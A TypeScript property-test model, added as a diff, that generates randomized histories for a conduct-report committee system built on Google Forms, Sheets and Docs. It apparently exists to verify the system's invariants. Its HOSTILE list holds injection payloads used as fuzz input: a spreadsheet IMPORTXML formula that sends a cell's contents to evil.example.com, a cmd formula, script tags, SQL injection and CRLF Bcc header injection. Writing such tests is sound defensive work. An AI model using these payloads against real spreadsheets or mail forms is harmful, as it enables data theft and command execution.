@@ -1,0 +1,412 @@
+// The property runs' model: fast-check arbitraries for committees, reports, answers, votes, sheet edits, time, time zones and faults, and the runner that plays one generated history and collects every §7 violation after every step.
+import fc from 'fast-check';
+import type { FaultSpec } from '../emulator/runtime';
+import type { ReportPeople } from '../integration/invariants';
+import { ADJECTIVES, NOUNS } from '../../src/core/code-names';
+import { DAY, DOC_SECTION, HOUR, Rehearsal, type MemberSpec } from './rehearsal';
+
+export const SPACE = 'Discourse';
+export const MODERATORS = ['mods@example.org', 'lead-mod@example.org'];
+
+/** How many runs the whole property suite makes (CI: 1,000); CONDUCT_DESK_PROPERTY_RUNS asks for more. */
+export function totalRuns(): number {
+  const asked = Number(process.env.CONDUCT_DESK_PROPERTY_RUNS);
+  return Number.isFinite(asked) && asked > 0 ? Math.floor(asked) : 1000;
+}
+
+/** fast-check parameters: a file's share of the runs, a seed from the environment to replay, no shrinking unless asked. */
+export function propertyParameters(share: number): fc.Parameters<unknown> {
+  const seed = Number(process.env.CONDUCT_DESK_PROPERTY_SEED);
+  const path = process.env.CONDUCT_DESK_PROPERTY_PATH;
+  return {
+    numRuns: Math.max(1, Math.round(totalRuns() * share)),
+    ...(Number.isFinite(seed) && process.env.CONDUCT_DESK_PROPERTY_SEED ? { seed } : {}),
+    ...(path ? { path } : {}),
+    endOnFailure: process.env.CONDUCT_DESK_PROPERTY_SHRINK !== '1',
+    verbose: 1,
+  };
+}
+
+// ---------------------------------------------------------------------------------------------------
+// Time zones and DST: each (zone, start) pair is one template. Starts sit just before a transition.
+
+export interface Clock {
+  zone: string;
+  start: string;
+}
+
+export const CLOCKS: Clock[] = [
+  { zone: 'Etc/UTC', start: '2026-03-02T09:00:00Z' },
+  { zone: 'America/New_York', start: '2026-03-07T22:30:00Z' }, // US spring forward 2026-03-08 07:00Z
+  { zone: 'Europe/Berlin', start: '2026-03-28T23:30:00Z' }, // EU spring forward 2026-03-29 01:00Z
+  { zone: 'Europe/Berlin', start: '2026-10-24T23:30:00Z' }, // EU fall back 2026-10-25 01:00Z
+  { zone: 'Australia/Lord_Howe', start: '2026-04-04T14:00:00Z' }, // half-hour DST ends 2026-04-05
+  { zone: 'Asia/Kolkata', start: '2026-06-01T18:29:00Z' }, // +05:30, no DST, midnight nearby
+];
+
+// ---------------------------------------------------------------------------------------------------
+// People. Names never use a code-name word (so a code name can never look like a later report's name).
+
+const CODE_WORDS = new Set([...ADJECTIVES, ...NOUNS].flatMap((w) => w.toLowerCase().split(/\s+/)));
+const FIRST = ['Ana', 'Bo', 'Cyan', 'Dario', 'Elif', 'Fumi', 'Goran', 'Hiba', 'Ines', 'Jonas', 'Kemal', 'Lior', 'Mbali', 'Nadia', 'Oskar', 'Priya', 'Quentin', 'Rania', 'Sami', 'Tuuli', 'Uche', 'Vesna', 'Wen', 'Ximena', 'Yusuf', 'Zofia', 'José', 'Zoë', 'Łukasz', 'Ngozi']
+  .filter((w) => !CODE_WORDS.has(w.toLowerCase()));
+const LAST = ['Abara', 'Brandt', 'Castellanos', 'Dimitrov', 'Eriksen', 'Fujimoto', 'Gallagher', 'Haddad', 'Ivanova', 'Jaramillo', 'Kowalczyk', 'Lindqvist', 'Mwangi', 'Nakagawa', 'Okonkwo', 'Petrossian', 'Quispe', 'Rahimi', 'Szabo', 'Takahashi', 'Umarov', 'Vasquez', 'Wojcik', 'Xu', 'Yilmaz', 'Zielinski', 'Núñez', 'Ødegaard']
+  .filter((w) => !CODE_WORDS.has(w.toLowerCase()));
+
+const nameArb = fc.tuple(fc.constantFrom(...FIRST), fc.constantFrom(...LAST)).map(([f, l]) => `${f} ${l}`);
+
+function slug(name: string): string {
+  return name.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase().replace(/[^a-z0-9]+/g, '.').replace(/^\.|\.$/g, '');
+}
+
+export interface MemberModel extends MemberSpec {
+  googleAccount: boolean;
+}
+
+/** 1–12 members, voting or adviser, some with addresses that have no Google account. */
+export const committeeArb: fc.Arbitrary<MemberModel[]> = fc
+  .uniqueArray(fc.record({ name: nameArb, voting: fc.boolean(), googleAccount: fc.boolean() }), { minLength: 1, maxLength: 12, selector: (m) => m.name })
+  .map((list) => list.map((m, i) => ({
+    name: m.name, email: `${slug(m.name)}.${i}@example.org`, role: m.voting ? 'voting' as const : 'adviser' as const, googleAccount: m.googleAccount || i === 0,
+  })));
+
+// ---------------------------------------------------------------------------------------------------
+// Reports with hostile text
+
+export const HOSTILE = [
+  '=IMPORTXML("https://evil.example.com/?q="&A1,"//a")', '+1+1', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("https://evil.example.com","x")',
+  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'; DROP TABLE cases; --", '\u202Egnp.exe', '\u200B\u200D\uFEFF',
+  '😀🏳️‍🌈👩🏽‍💻', 'مرحبا بالعالم', 'שלום', '\u0000\u0007\u001b[31m', 'line one\r\nBcc: evil@example.com', '{{7*7}} ${7*7} <?= 7 ?>',
+  '\t=cmd|"/c calc"!A1', '%0d%0aBcc:%20evil@example.com',
+];
+
+const textArb = fc.oneof(
+  { weight: 4, arbitrary: fc.lorem({ maxCount: 30 }) },
+  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
+  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
+  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...HOSTILE), fc.integer({ min: 200, max: 3000 })).map(([s, n]) => s.repeat(Math.ceil(n / s.length)).slice(0, n)) },
+);
+
+export interface ReportModel {
+  answers: Record<string, string>;
+  people: ReportPeople;
+  deliveries: number;
+}
+
+export const reportArb: fc.Arbitrary<ReportModel> = fc
+  .record({
+    reporterName: fc.option(nameArb, { nil: undefined }),
+    reporterEmail: fc.option(fc.oneof(
+      { weight: 5, arbitrary: nameArb.map((n) => `${slug(n)}@example.net`) },
+      { weight: 1, arbitrary: fc.constantFrom('not an address', 'a@b', 'x@example.net\r\nBcc: evil@example.com', ' spaced @example.net', 'two@example.net, three@example.net') },
+    ), { nil: undefined }),
+    reported: fc.uniqueArray(nameArb, { minLength: 0, maxLength: 3 }),
+    reportedEmail: fc.option(nameArb.map((n) => `${slug(n)}@example.com`), { nil: undefined }),
+    witness: fc.option(nameArb, { nil: undefined }),
+    what: textArb,
+    where: fc.constantFrom(SPACE, 'Other', ''),
+    danger: fc.constantFrom('', 'No', 'Yes'),
+    extra: fc.option(textArb, { nil: undefined }),
+    deliveries: fc.constantFrom(1, 1, 1, 2, 3),
+  })
+  .map((x) => {
+    // "What happened?" is the Form's one required question: the Form itself refuses a blank answer.
+    const answers: Record<string, string> = { 'What happened?': x.what.trim() ? x.what : `${x.what}Something happened.` };
+    if (x.reporterName) answers['Your name'] = x.reporterName;
+    if (x.reporterEmail) answers['Your email address'] = x.reporterEmail;
+    const involved = [...x.reported, ...(x.reportedEmail ? [x.reportedEmail] : [])];
+    if (involved.length) answers['Who was involved?'] = involved.join(', ');
+    if (x.where) answers['Where did it happen?'] = x.where;
+    if (x.witness) answers['Were there witnesses?'] = x.witness;
+    if (x.danger) answers['Is anyone in immediate danger?'] = x.danger;
+    if (x.extra) answers['Anything else we should know?'] = x.extra;
+    const people: ReportPeople = {
+      reporter: { name: x.reporterName, email: x.reporterEmail && /^[^\s@,]+@[^\s@,]+\.[a-z]+$/i.test(x.reporterEmail) ? x.reporterEmail : undefined },
+      reported: [...x.reported.map((name) => ({ name })), ...(x.reportedEmail ? [{ email: x.reportedEmail }] : [])],
+      witnesses: x.witness ? [{ name: x.witness }] : [],
+    };
+    return { answers, people, deliveries: x.deliveries };
+  });
+
+// ---------------------------------------------------------------------------------------------------
+// Steps
+
+export type Step =
+  | { kind: 'report'; report: ReportModel }
+  | { kind: 'blank' }
+  | { kind: 'respond'; member: number; kase: number; answer: 'no-conflict' | 'conflict' }
+  | { kind: 'casePageConflict'; member: number; kase: number }
+  | { kind: 'writeDoc'; member: number; kase: number; section: keyof typeof DOC_SECTION; text: string; mention: 'none' | 'reporter' | 'witness' }
+  | { kind: 'openVote'; member: number; kase: number }
+  | { kind: 'vote'; member: number; kase: number; choice: 'approve' | 'reject' | 'abstain' }
+  | { kind: 'recommend'; member: number; kase: number }
+  | { kind: 'moderator'; moderator: number; kase: number; answer: 'accept' | 'disagree' }
+  | { kind: 'letter'; member: number; kase: number }
+  | { kind: 'followUp'; member: number; kase: number }
+  | { kind: 'sheet'; member: number; edit: 'sort' | 'insert' | 'delete' | 'rename' | 'status' | 'resolution'; kase: number; column: number; value: string }
+  | { kind: 'roster'; member: number; active: boolean }
+  | { kind: 'addMember'; name: string }
+  | { kind: 'scan'; member: number }
+  | { kind: 'busy'; then: 'respond' | 'report'; member: number; kase: number }
+  | { kind: 'advance'; hours: number };
+
+const idx = fc.nat({ max: 11 });
+const kaseIdx = fc.integer({ min: 1, max: 4 });
+
+export const stepArbs = {
+  report: reportArb.map((report) => ({ kind: 'report' as const, report })),
+  blank: fc.constant({ kind: 'blank' as const }),
+  respond: fc.record({ kind: fc.constant('respond' as const), member: idx, kase: kaseIdx, answer: fc.constantFrom('no-conflict' as const, 'no-conflict' as const, 'conflict' as const) }),
+  casePageConflict: fc.record({ kind: fc.constant('casePageConflict' as const), member: idx, kase: kaseIdx }),
+  writeDoc: fc.record({
+    kind: fc.constant('writeDoc' as const), member: idx, kase: kaseIdx,
+    section: fc.constantFrom('plan' as const, 'consequences' as const, 'letter' as const, 'followUp' as const, 'discussion' as const),
+    text: textArb, mention: fc.constantFrom('none' as const, 'none' as const, 'reporter' as const, 'witness' as const),
+  }),
+  openVote: fc.record({ kind: fc.constant('openVote' as const), member: idx, kase: kaseIdx }),
+  vote: fc.record({ kind: fc.constant('vote' as const), member: idx, kase: kaseIdx, choice: fc.constantFrom('approve' as const, 'approve' as const, 'reject' as const, 'abstain' as const) }),
+  recommend: fc.record({ kind: fc.constant('recommend' as const), member: idx, kase: kaseIdx }),
+  moderator: fc.record({ kind: fc.constant('moderator' as const), moderator: fc.nat({ max: 1 }), kase: kaseIdx, answer: fc.constantFrom('accept' as const, 'accept' as const, 'disagree' as const) }),
+  letter: fc.record({ kind: fc.constant('letter' as const), member: idx, kase: kaseIdx }),
+  followUp: fc.record({ kind: fc.constant('followUp' as const), member: idx, kase: kaseIdx }),
+  sheet: fc.record({
+    kind: fc.constant('sheet' as const), member: idx,
+    edit: fc.constantFrom('sort' as const, 'insert' as const, 'delete' as const, 'rename' as const, 'status' as const, 'resolution' as const),
+    kase: kaseIdx, column: fc.integer({ min: 1, max: 7 }), value: fc.oneof(fc.constantFrom('Resolved', 'Closed', 'Ongoing', 'New', 'Warning given', 'Next steps', 'Notes'), textArb),
+  }),
+  roster: fc.record({ kind: fc.constant('roster' as const), member: idx, active: fc.boolean() }),
+  addMember: nameArb.map((name) => ({ kind: 'addMember' as const, name })),
+  scan: fc.record({ kind: fc.constant('scan' as const), member: idx }),
+  busy: fc.record({ kind: fc.constant('busy' as const), then: fc.constantFrom('respond' as const, 'report' as const), member: idx, kase: kaseIdx }),
+  advance: fc.record({ kind: fc.constant('advance' as const), hours: fc.oneof(fc.integer({ min: 1, max: 6 }), fc.integer({ min: 20, max: 30 }), fc.integer({ min: 160, max: 200 })) }),
+};
+
+export interface History {
+  clock: Clock;
+  committee: MemberModel[];
+  faultSeed: number;
+  /** Chance of a transient service error per call of the faulty services (0 = no faults). */
+  faultChance: number;
+  steps: Step[];
+}
+
+/** Services that fail with Google's transient messages in fault runs. */
+const FAULTY = ['MailApp.sendEmail', 'Drive.Permissions.create', 'Drive.Permissions.list', 'DocumentApp.openById', 'SpreadsheetApp.openById', 'FormApp.openById', 'File.setSharing'];
+const TRANSIENT = [
+  "We're sorry, a server error occurred. Please wait a bit and try again.",
+  'Service Spreadsheets timed out while accessing document with id 1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg.',
+  'Service invoked too many times in a short time: drive. Try Utilities.sleep(1000) between calls.',
+];
+
+export function historyArb(steps: fc.Arbitrary<Step>, options: { minSteps?: number; maxSteps?: number; faults?: boolean } = {}): fc.Arbitrary<History> {
+  return fc.record({
+    clock: fc.constantFrom(...CLOCKS),
+    committee: committeeArb,
+    faultSeed: fc.nat(),
+    faultChance: options.faults === false ? fc.constant(0) : fc.constantFrom(0, 0, 0.03, 0.08),
+    steps: fc.array(steps, { minLength: options.minSteps ?? 1, maxLength: options.maxSteps ?? 6 }),
+  });
+}
+
+function faultsFor(h: History): FaultSpec[] {
+  if (!h.faultChance) return [];
+  return FAULTY.map((call, i) => ({ call, chance: h.faultChance, message: TRANSIENT[(i + h.faultSeed) % TRANSIENT.length] }));
+}
+
+// ---------------------------------------------------------------------------------------------------
+// Playing a history
+
+export interface PlayOutcome {
+  violations: string[];
+  /** Steps that did something (a refusal counts: the person tried and was refused). */
+  played: number;
+  /** Extra per-run checks that failed (deadlines across DST, sheet times in the committee's zone). */
+  checks: string[];
+}
+
+function member(r: Rehearsal, i: number): MemberSpec {
+  return r.members[i % r.members.length];
+}
+
+/** A text a member writes, sometimes carrying the reporter's or a witness's name (the redaction guard's business). */
+function docText(r: Rehearsal, s: Extract<Step, { kind: 'writeDoc' }>): string {
+  const people = r.k.people[s.kase - 1];
+  if (s.mention === 'reporter' && people?.reporter?.name) return `${s.text}\nAs ${people.reporter.name} told us.`;
+  if (s.mention === 'reporter' && people?.reporter?.email) return `${s.text}\nWrite to ${people.reporter.email}.`;
+  if (s.mention === 'witness' && people?.witnesses?.[0]?.name) return `${s.text}\n${people.witnesses[0].name} saw it.`;
+  return s.text;
+}
+
+/** Responses whose intake execution did not finish: the checker allows them unfinished until a clean sweep. */
+function noteFailedIntakes(r: Rehearsal, before: number): void {
+  for (const e of r.ws.rt.executions.slice(before)) {
+    if (e.fn === 'onReportSubmit_' && e.outcome !== 'ok') for (const id of r.reports) r.k.unfinishedResponses.add(id);
+  }
+}
+
+function playStep(r: Rehearsal, s: Step): void {
+  const who = (i: number) => member(r, i).email;
+  const exists = (n: number) => r.caseOf(n) !== null;
+  switch (s.kind) {
+    case 'report':
+      r.report(s.report.answers, s.report.people, s.report.deliveries);
+      return;
+    case 'blank':
+      r.blankEvent();
+      return;
+    case 'respond':
+      if (exists(s.kase)) r.respond(who(s.member), s.kase, s.answer);
+      return;
+    case 'casePageConflict':
+      if (exists(s.kase)) r.conflictFromCasePage(who(s.member), s.kase);
+      return;
+    case 'writeDoc':
+      if (!exists(s.kase)) return;
+      try {
+        r.writeDoc(who(s.member), s.kase, DOC_SECTION[s.section], docText(r, s));
+      } catch (err) {
+        // A member who cannot open the Doc is refused by Docs itself: that is the point, not a failure.
+        if (!/permission|access/i.test(String((err as Error).message))) throw err;
+      }
+      return;
+    case 'openVote':
+      if (exists(s.kase)) r.openVote(who(s.member), s.kase);
+      return;
+    case 'vote':
+      if (exists(s.kase)) r.vote(who(s.member), s.kase, s.choice);
+      return;
+    case 'recommend':
+      if (exists(s.kase)) r.sendRecommendation(who(s.member), s.kase);
+      return;
+    case 'moderator':
+      if (exists(s.kase)) r.moderatorReply(MODERATORS[s.moderator], s.kase, s.answer, s.answer === 'disagree' ? 'We would rather start with a conversation.' : '');
+      return;
+    case 'letter': {
+      if (!exists(s.kase)) return;
+      const to = r.k.people[s.kase - 1]?.reported?.find((p) => p.email)?.email ?? `reported.${s.kase}@example.com`;
+      r.sendLetter(who(s.member), s.kase, to);
+      return;
+    }
+    case 'followUp':
+      if (exists(s.kase)) r.sendFollowUp(who(s.member), s.kase);
+      return;
+    case 'sheet':
+      playSheetEdit(r, s);
+      return;
+    case 'roster':
+      if (r.members.length > 1 || s.active) r.setActive(who(s.member), s.active);
+      return;
+    case 'addMember': {
+      if (r.members.some((m) => m.name === s.name) || r.members.length >= 14) return;
+      r.addMembers([{ name: s.name, email: `${slug(s.name)}.new${r.members.length}@example.org`, role: 'voting' }]);
+      return;
+    }
+    case 'scan':
+      r.scan(who(s.member), 'newest');
+      return;
+    case 'busy': {
+      // Another execution holds the script lock for 40 s: pages say "busy", a trigger's waitLock(30 s) fails.
+      r.ws.holdScriptLock(r.ws.rt.now() + 40_000);
+      if (s.then === 'respond' && exists(s.kase)) r.respond(who(s.member), s.kase, 'no-conflict');
+      else if (s.then === 'report') r.report({ 'What happened?': 'A report sent while the system was busy.', 'Who was involved?': 'Someone Unnamed' }, { reported: [{ name: 'Someone Unnamed' }] });
+      return;
+    }
+    case 'advance':
+      r.advance(s.hours * HOUR);
+      return;
+  }
+}
+
+function playSheetEdit(r: Rehearsal, s: Extract<Step, { kind: 'sheet' }>): void {
+  const user = member(r, s.member).email;
+  const rows = r.ws.data.sheet(r.ids.status, 'Cases').rows;
+  if (rows.length < 2 || !r.caseOf(s.kase)) return;
+  const header = rows[0].map((h) => String(h));
+  try {
+    switch (s.edit) {
+      case 'sort':
+        r.sortCases(user, s.column, s.column % 2 === 0);
+        return;
+      case 'insert':
+        r.insertCasesRow(user, 2 + (s.column % Math.max(1, rows.length - 1)));
+        return;
+      case 'delete':
+        if (r.statusRowOf(s.kase)) r.deleteCaseRow(user, s.kase);
+        return;
+      case 'rename': {
+        // Renaming the key column (Code Name) is ADV-33's case, an open bug: a case reported meanwhile never gets
+        // its status row. Here people rename any other header; the system must keep working around it.
+        const renamable = header.filter((h) => h && h.trim().toLowerCase() !== 'code name');
+        const from = renamable[(s.column - 1) % renamable.length];
+        if (from) r.renameCasesHeader(user, from, `${from} (notes)`);
+        return;
+      }
+      case 'status':
+        if (r.statusRowOf(s.kase) && header.some((h) => h === 'Status')) r.editCase(user, s.kase, 'Status', /^(Resolved|Closed|Ongoing|New)$/.test(s.value) ? s.value : 'Ongoing');
+        return;
+      case 'resolution':
+        // People type free text here: never a formula in this model (a typed formula is the adversarial suite's case).
+        if (r.statusRowOf(s.kase) && header.some((h) => h === 'Resolution')) r.editCase(user, s.kase, 'Resolution', s.value.replace(/^[=+\-@\t\r\n]+/, ''));
+        return;
+    }
+  } catch (err) {
+    // A member without edit rights on the status sheet (not yet synced, or just removed) is refused by Sheets.
+    if (!/permission|protected|access/i.test(String((err as Error).message))) throw err;
+  }
+}
+
+/** Deadlines are instants N×24 h after receipt, whatever the zone's DST does; sheet times are shown in the committee's zone. */
+function timeChecks(r: Rehearsal, zone: string): string[] {
+  const out: string[] = [];
+  const fmt = new Intl.DateTimeFormat('en-CA', { timeZone: zone, year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', hourCycle: 'h23' });
+  const status = r.status();
+  for (const c of r.registry('Cases')) {
+    const received = Date.parse(c['Received At']);
+    let deadlines: { acknowledgeBy?: string; followUpBy?: string; followUpDays?: number } = {};
+    try { deadlines = JSON.parse(c.Deadlines); } catch { out.push(`case ${c['Case ID']} has unreadable deadlines`); continue; }
+    const follow = Date.parse(deadlines.followUpBy ?? '');
+    if (deadlines.followUpDays && follow - received !== deadlines.followUpDays * DAY) out.push(`follow-up deadline of ${c['Case ID']} is ${(follow - received) / HOUR} h after receipt, not ${deadlines.followUpDays * 24} h`);
+    const ack = Date.parse(deadlines.acknowledgeBy ?? '');
+    if (!(ack > received)) out.push(`acknowledgment deadline of ${c['Case ID']} is not after receipt`);
+    const row = status.find((s) => (s['Code Name'] ?? '').trim().toLowerCase() === c['Code Name'].toLowerCase());
+    const shown = row?.['Date & Time'];
+    if (shown && /^\d{4}-\d\d-\d\d \d\d:\d\d$/.test(shown)) {
+      const parts = Object.fromEntries(fmt.formatToParts(new Date(received)).map((p) => [p.type, p.value]));
+      const expected = `${parts.year}-${parts.month}-${parts.day} ${parts.hour}:${parts.minute}`;
+      if (shown !== expected) out.push(`case ${c['Code Name']} shows ${shown}, received ${expected} in ${zone}`);
+    }
+  }
+  return out;
+}
+
+/** Plays one generated history on a fresh committee; returns every violation seen after any step, and after settling. */
+export function playHistory(h: History): PlayOutcome {
+  const r = Rehearsal.start({
+    start: h.clock.start, timeZone: h.clock.zone,
+    spaces: [{ name: SPACE, moderators: MODERATORS }],
+    settings: { 'Escalation contact': 'board@example.org' },
+    noGoogleAccount: h.committee.filter((m) => !m.googleAccount).map((m) => m.email),
+    seed: h.faultSeed,
+    check: false,
+  });
+  r.throwOnViolation = false;
+  r.addMembers(h.committee);
+  r.check('the committee is entered');
+  r.ws.rt.faults = faultsFor(h);
+  let played = 0;
+  for (const [i, step] of h.steps.entries()) {
+    const before = r.ws.rt.executions.length;
+    playStep(r, step);
+    // A report whose trigger failed (a fault, a busy lock) waits for the sweep; everything else must hold now.
+    noteFailedIntakes(r, before);
+    r.check(`step ${i + 1} (${step.kind})`);
+    played++;
+  }
+  r.checkEveryStep = true;
+  // Settle: Google behaves again, time passes, the sweep catches up; then nothing may be unfinished.
+  r.ws.rt.faults = [];
+  r.advance(2 * HOUR);
+  r.k.unfinishedResponses.clear();
+  r.check('settling');
+  return { violations: [...new Set(r.violations)], played, checks: timeChecks(r, h.clock.zone) };
+}
